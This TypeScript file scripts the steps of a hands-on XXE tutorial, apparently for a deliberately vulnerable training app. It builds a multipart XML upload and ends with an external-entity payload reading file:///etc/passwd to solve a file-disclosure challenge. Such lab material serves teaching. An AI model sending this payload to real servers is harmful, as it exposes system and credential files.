import type { Script } from '../script/script.ts';
import { read, task } from '../script/steps.ts';
import { lookAtResponse, openWorkbench, requestText, send, showRepeater } from '../script/workbench.ts';

/** An upload of one XML file, as a browser would write it. */
const upload = requestText({
  line: 'POST /file-upload',
  headers: ['Accept: application/json', 'Content-Type: multipart/form-data; boundary=parts'],
  body: [
    '--parts',
    'Content-Disposition: form-data; name="file"; filename="order.xml"',
    'Content-Type: application/xml',
    '',
    '<order>fresh oranges</order>',
    '--parts--',
  ].join('\n'),
});

/** Returns an order whose only word is an entity. */
function orderWith(entity: string): string {
  return `<!DOCTYPE order [<!ENTITY fruit ${entity}>]>\n<order>&fruit;</order>`;
}

/** An external entity that reads a file of the server (ui-learning.md 14.16). */
export const xxeDataAccess: Script = [
  read('TUTORIAL_XXE_1', 20_000),
  read('TUTORIAL_XXE_2', 20_000),
  openWorkbench,
  showRepeater,
  send('TUTORIAL_XXE_5', /fresh oranges/, { payload: { payload: upload } }),
  lookAtResponse('TUTORIAL_XXE_6', 20_000, { status: { code: '410' } }),
  send('TUTORIAL_XXE_7', /<order>mangoes/, { payload: { payload: orderWith('"mangoes"') } }),
  lookAtResponse('TUTORIAL_XXE_8', 20_000, { system: { code: 'SYSTEM' } }),
  task(
    'TUTORIAL_XXE_9',
    ['#repeater-send'],
    { kind: 'solved', challenge: 'xxeFileDisclosureChallenge' },
    { payload: { payload: orderWith('SYSTEM "file:///etc/passwd"') } },
  ),
  lookAtResponse('TUTORIAL_XXE_10', 20_000, { file: { code: '/etc/passwd' } }),
  read('TUTORIAL_XXE_11', 20_000, { doctype: { code: '<!DOCTYPE' } }),
];
